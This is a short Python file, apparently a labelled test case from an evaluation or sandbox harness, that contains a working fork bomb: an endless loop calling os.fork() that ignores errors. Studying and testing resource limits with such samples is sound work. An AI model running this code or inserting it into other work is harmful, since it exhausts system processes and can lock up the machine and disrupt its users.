# C28: every process makes more
# ends: failed all_samples_failed participant
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
